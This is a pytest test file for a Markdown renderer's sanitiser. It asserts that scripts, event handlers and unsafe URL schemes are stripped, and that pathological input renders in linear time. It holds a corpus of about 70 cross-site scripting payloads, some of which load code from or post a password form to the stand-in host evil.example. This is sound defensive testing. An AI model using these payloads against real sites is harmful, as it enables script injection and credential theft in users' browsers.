"""What a browser would run must not survive; what people write must."""

import re
import sys
from html.parser import HTMLParser

import pytest

from lacewing.kernel.markdown import INLINE_LENGTH_MAX, NESTING_MAX, render, render_off_loop

TAGS = {
    "a", "blockquote", "br", "code", "del", "em", "h1", "h2", "h3", "h4", "h5", "h6", "hr", "img",
    "li", "ol", "p", "pre", "s", "strong", "table", "tbody", "td", "th", "thead", "tr", "ul",
}  # fmt: skip
ATTRIBUTES = {"href", "title", "src", "alt", "class", "start", "align", "rel"}
SCHEMES = ("http://", "https://", "mailto:")

ATTACKS = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)//",
    '<img src="javascript:alert(1)">',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg/onload=alert(1)//",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "<math><mtext></p><img src=x onerror=alert(1)></math>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<iframe src=javascript:alert(1)></iframe>",
    '<iframe srcdoc="<script>alert(1)</script>">',
    "<object data=javascript:alert(1)>",
    "<embed src=//evil.example/x.swf>",
    '<base href="javascript:alert(1)//">',
    '<link rel=stylesheet href="//evil.example/x.css">',
    '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
    "<style>@import'//evil.example/x.css';</style>",
    '<p style="background:url(javascript:alert(1))">x</p>',
    '<div style="position:fixed;inset:0">x</div>',
    '<form action="//evil.example"><input name=password></form>',
    "<button formaction=javascript:alert(1)>x</button>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<isindex type=image src=1 onerror=alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href=" &#14; javascript:alert(1)">x</a>',
    '<a href="https://ok.example" onclick="alert(1)">x</a>',
    "[x](javascript:alert(1))",
    "[x](JAVASCRIPT:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](file:///etc/passwd)",
    "[x]( javascript:alert(1) )",
    "[x][1]\n\n[1]: javascript:alert(1)",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    '![x" onerror="alert(1)](https://ok.example/x.png)',
    '[x](https://ok.example "a\\" onmouseover=\\"alert(1)")',
    '[x](https://ok.example/"onmouseover="alert(1))',
    "<javascript:alert(1)>",
    '<https://ok.example/"onmouseover=alert(1)>',
    '```js" onload="alert(1)\nx\n```',
    "```<script>\nx\n```",
    "`<script>alert(1)</script>`",
    "<!--<img src=--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php alert(1) ?><script>alert(1)</script>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<textarea></textarea><script>alert(1)</script>",
    '<title><img title="</title><img src=x onerror=alert(1)>"></title>',
    "<template><script>alert(1)</script></template>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    "> <script>alert(1)</script>",
    "# <script>alert(1)</script>",
    "<x onclick=alert(1)>",
    "<a\nhref=javascript:alert(1)>x</a>",
    "\u202e<script>alert(1)</script>",
    "<img src='x' \x00onerror=alert(1)>",
)  # fmt: skip


class _Seen(HTMLParser):
    """Tags and attributes as a parser sees them."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: set[str] = set()
        self.attributes: list[tuple[str, str]] = []
        self.others: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes += [(name, value or "") for name, value in attrs]

    def handle_comment(self, data: str) -> None:
        self.others.append(data)

    def handle_decl(self, decl: str) -> None:
        self.others.append(decl)

    def handle_pi(self, data: str) -> None:
        self.others.append(data)


def _seen(html: str) -> _Seen:
    parser = _Seen()
    parser.feed(html)
    parser.close()
    return parser


@pytest.mark.parametrize("text", ATTACKS)
def test_nothing_that_runs_survives(text: str) -> None:
    """SEC-5: no script, handler, ``javascript:`` or unsafe style."""
    seen = _seen(render(text))

    assert seen.tags <= TAGS
    assert {name for name, _ in seen.attributes} <= ATTRIBUTES
    assert seen.others == []
    for name, value in seen.attributes:
        if name in {"href", "src"}:
            assert value.lower().startswith(SCHEMES) or ":" not in value.partition("/")[0]


def test_there_are_attacks_enough() -> None:
    """SEC-5: the corpus may only grow."""
    assert len(ATTACKS) >= 70
    assert len(set(ATTACKS)) == len(ATTACKS)


@pytest.mark.parametrize(
    ("text", "html"),
    [
        ("**bold** and *thin*", "<p><strong>bold</strong> and <em>thin</em></p>\n"),
        ("~~gone~~", "<p><s>gone</s></p>\n"),
        ("a < b & c", "<p>a &lt; b &amp; c</p>\n"),
        ("# Head", "<h1>Head</h1>\n"),
        ("- one\n- two", "<ul>\n<li>one</li>\n<li>two</li>\n</ul>\n"),
        ("3. three", '<ol start="3">\n<li>three</li>\n</ol>\n'),
        ("```py\nx = 1\n```", '<pre><code class="language-py">x = 1\n</code></pre>\n'),
        (
            "[x](https://ok.example)",
            '<p><a href="https://ok.example" rel="nofollow noopener noreferrer">x</a></p>\n',
        ),
        (
            "![alt](https://ok.example/x.png)",
            '<p><img src="https://ok.example/x.png" alt="alt"></p>\n',
        ),
        ("", ""),
        ("Übersicht 🦋", "<p>Übersicht 🦋</p>\n"),
    ],
)
def test_what_people_write_survives(text: str, html: str) -> None:
    """SEC-5: CommonMark with tables and strikethrough."""
    assert render(text) == html


def _steps(text: str) -> int:
    """How many calls it takes to render a text: the same on every machine, however busy."""
    count = 0

    def one_more(_frame: object, _event: str, _argument: object) -> None:
        nonlocal count
        count += 1

    sys.setprofile(one_more)
    try:
        render(text)
    finally:
        sys.setprofile(None)
    return count


def _depth(html: str) -> int:
    """How deep the elements of a rendered text lie in each other."""
    depth = deepest = 0
    for tag in re.findall(r"<(?!img|br|hr)(/?)\w", html):
        depth += -1 if tag else 1
        deepest = max(deepest, depth)
    return deepest


@pytest.mark.parametrize(
    "unit",
    [">", "- ", "[", "*a ", "![", "`", "a**b", "<a ", "|a", "| a |\n|---|\n", "&", "[a](<", "> - "],
)
def test_text_made_to_be_slow_takes_steps_in_proportion_to_its_length(unit: str) -> None:
    """SEC-5: twice the text, twice the work, and no more; four times would tell of a square."""
    once, twice = unit * 1_000, unit * 2_000

    assert _steps(twice) < 2.2 * _steps(once) + 1_000
    assert _depth(render(twice)) <= NESTING_MAX + 1  # the text in the innermost


def test_nesting_by_indentation_is_cut_off() -> None:
    """SEC-5: the sanitiser's cost grows with the square of the nesting."""
    text = "\n".join("  " * depth + "- x" for depth in range(140))

    assert 1 < _depth(render(text)) <= 2 * NESTING_MAX


@pytest.mark.parametrize("length", [INLINE_LENGTH_MAX, INLINE_LENGTH_MAX + 1])
async def test_a_long_text_is_rendered_the_same_off_the_loop(length: int) -> None:
    """SEC-5: at the length where the thread takes over, and one beyond."""
    text = "*a*" + "b" * (length - 3)

    assert await render_off_loop(text) == render(text)
